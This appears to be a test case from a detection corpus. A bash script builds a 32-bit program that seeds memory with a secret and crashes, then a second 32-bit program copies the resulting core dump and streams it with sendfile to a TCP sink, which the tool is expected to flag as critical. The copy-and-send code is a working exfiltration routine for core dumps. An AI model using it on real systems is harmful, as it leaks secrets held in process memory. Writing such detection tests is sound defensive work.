#!/bin/bash
# A-m32: a 32-bit program crashes, and a 32-bit program of the same vendor copies and sends the core.
# flow: an ELF of class 32 with 32-bit notes; int 0x80 and sysenter: socketcall, _llseek, pread64 with its offset in two
#   registers, sendfile64.
# tools: gcc
# expect: sent counted port critical
. "$CORPUS/lib.sh"
cat >crash.c <<'END'
#include <stdlib.h>
#include <string.h>
static char secret[300000];
int main(void)
{
    for (size_t at = 0; at + 64 < sizeof secret; at += 23)
        strcpy(secret + at, getenv("SECRET"));
    abort();
}
END
cat >copy.c <<'END'
/* copy FILE ADDRESS PORT COPY */
#define _FILE_OFFSET_BITS 64
#include "net.h"
#include <sys/sendfile.h>
int main(int argc, char **argv)
{
    static char part[50000];
    must(argc == 5, "usage");
    int core = open(argv[1], O_RDONLY), copy = open(argv[4], O_RDWR | O_CREAT | O_EXCL, 0600);
    must(core >= 0 && copy >= 0, "open");
    off_t at = 0, end = lseek(core, 0, SEEK_END);
    for (ssize_t got; at < end; at += got) {
        must((got = pread(core, part, sizeof part, at)) > 0, "pread");
        must(pwrite(copy, part, got, at) == got, "pwrite");
    }
    int sink = dial(argv[2], argv[3]);
    for (at = 0; at < end;)
        must(sendfile(sink, copy, &at, 77777) > 0, "sendfile");
    return 0;
}
END
gcc -m32 -O1 -o crash32 crash.c && gcc -m32 -O1 -I"$CORPUS/src" -o copy32 copy.c || skip "no 32-bit programs here"
mkdir dumps
{ (cd dumps && ulimit -c unlimited && exec env SECRET="$MARKER" ../crash32); } 2>/dev/null
D=$(ls -d "$W"/dumps/core*) || fail "no core"
readelf -h "$D" | grep 'Class: .*ELF32' || fail "that is no 32-bit core"
sink tcp
./copy32 "$D" "$SINK" "$PORT" "$W/copied" || fail "the copy failed"
made "$D" copied
sunk 300000
